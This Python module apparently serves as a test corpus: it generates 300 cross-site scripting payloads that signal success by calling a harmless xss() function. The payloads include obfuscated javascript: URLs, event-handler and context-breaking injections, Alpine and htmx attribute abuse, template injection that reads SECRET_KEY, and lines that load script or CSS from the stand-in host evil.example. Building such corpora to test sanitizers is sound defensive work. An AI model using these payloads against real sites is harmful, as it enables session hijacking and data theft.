"""300 texts that try to run as code in a page. Those that succeed call `xss()`."""

from __future__ import annotations

RUN = "xss()"
TAGS = (
    "img svg body video audio details input select textarea iframe object embed math marquee style"
    " link".split()
)
EVENTS = (
    "onerror onload onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter".split()
)
BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "`>",
    "{{",
    "*/",
)
URLS = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "java\tscript:xss()",
    "\x01javascript:xss()",
    "javascript&colon;xss()",
    "&#106;avascript:xss()",
    "data:text/html,<script>xss()</script>",
    "data:image/svg+xml,<svg onload=xss()>",
    "vbscript:xss()",
    "//evil.example/x.js",
)
ODD = (
    "<script>xss()</script>",
    "<script src=//evil.example/x.js></script>",
    "<svg><script>xss()</script></svg>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<img src=x onerror=&#120;ss()>",
    "<svg/onload=xss()//",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<template><img src=x onerror=xss()></template>",
    "<div x-data='xss()' x-init='xss()'></div>",
    '<div x-init="$el.ownerDocument.defaultView.xss()"></div>',
    "<div x-data x-html='\"<img src=x onerror=xss()>\"'></div>",
    "<b hx-get=/admin/ hx-trigger=load hx-on:htmx:load='xss()'>x</b>",
    "<b hx-vals='js:{a:xss()}' hx-get=/ hx-trigger=load>x</b>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<form action=javascript:xss()><button autofocus>go</button></form>",
    "<a href=javascript:xss() autofocus onfocus=xss()>x</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "{{ constructor.constructor('xss()')() }}",
    "${xss()}",
    "{% load x %}{{ settings.SECRET_KEY }}",
    "\x1b[31m<img src=x onerror=xss()>\x1b[0m",
    "\x1b]8;;javascript:xss()\x07click\x1b]8;;\x07",
    "[click](javascript:xss())",
    '![x](x" onerror="xss())',
    "[x]: javascript:xss()\n[x]",
    "<javascript:xss()>",
    "\u2028<img src=x onerror=xss()>\u2029",
    '\r\n\r\nevent: log\ndata: {"lines":[]}\n\n',
    "\ud7ff\uffff\ufeff<img src=x onerror=xss()>",
    "</script><script>xss()</script>",
    "<!--<script>xss()//-->",
    '"};xss();//',
    "';xss();//",
    '\\";xss();//',
    '" onmouseover="xss()" autofocus onfocus="xss()',
    "' style='animation-name:x' onanimationstart='xss()",
    "<use href='data:image/svg+xml,<svg id=x onload=xss()>#x'></use>",
)


def vectors() -> list[str]:
    """Exactly 300 distinct ones, the strangest first."""
    found = list(ODD)
    found += [f'<a href="{url}" onclick={RUN}>x</a>' for url in URLS]
    found += [f"[x]({url})" for url in URLS]
    found += [
        f"{end}<{tag} src=x {event}={RUN} autofocus>"
        for number, tag in enumerate(TAGS)
        for place, event in enumerate(EVENTS)
        for end in (
            BREAKS[(number + place) % len(BREAKS)],
            BREAKS[(number * place + 5) % len(BREAKS)],
        )
    ]
    unique = list(dict.fromkeys(found))
    assert len(unique) >= 300
    return unique[:300]
